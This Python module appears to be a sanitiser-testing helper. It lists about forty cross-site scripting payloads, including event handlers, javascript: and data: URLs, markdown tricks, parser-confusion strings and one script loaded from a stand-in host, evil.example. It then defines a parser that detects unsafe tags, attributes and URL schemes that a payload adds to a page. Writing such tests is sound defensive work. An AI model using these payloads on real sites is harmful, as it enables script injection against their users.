"""What counts as unsafe markup on a page, and known payloads to try."""

import re
from html.parser import HTMLParser

# Known cross-site scripting payloads: tags, attributes, URL schemes,
# encodings and parser tricks.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    '<embed src="javascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<base href="javascript:alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<<script>script>alert(1)<</script>/script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
]

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base",
    "form", "input", "button", "textarea", "select", "math", "svg", "style", "link",
    "meta", "noscript", "details",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "poster", "xlink:href",
                  "data", "background", "cite"}  # fmt: skip
BAD_SCHEME = re.compile(r"^(javascript|data|vbscript):", re.IGNORECASE)


class UnsafeMarkupFinder(HTMLParser):
    """Finds markup a payload could have smuggled in. Tags that the page's own
    layout uses legitimately are counted separately and compared with a clean
    page: only what a payload added counts."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.tag_counts = {}

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.tag_counts[tag] = self.tag_counts.get(tag, 0) + 1
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if (
                name == "style"
                and value
                and re.search(r"javascript|expression\(|url\(", value, re.I)
            ):
                self.problems.append(f"<{tag} style={value!r}>")
            if name in URL_ATTRIBUTES and value:
                for candidate in value.split(",") if name == "srcset" else [value]:
                    cleaned = re.sub(r"[\x00-\x20]", "", candidate)
                    if BAD_SCHEME.match(cleaned):
                        self.problems.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag


def scan(html):
    finder = UnsafeMarkupFinder()
    finder.feed(html)
    finder.close()
    return finder


def unsafe_markup(html, baseline_html):
    """Problems in `html` that `baseline_html` (the same page with harmless
    text) does not have."""
    found, baseline = scan(html), scan(baseline_html)
    added_tags = [
        f"<{tag}> ×{count - baseline.tag_counts.get(tag, 0)}"
        for tag, count in found.tag_counts.items()
        if count > baseline.tag_counts.get(tag, 0)
    ]
    return found.problems + added_tags
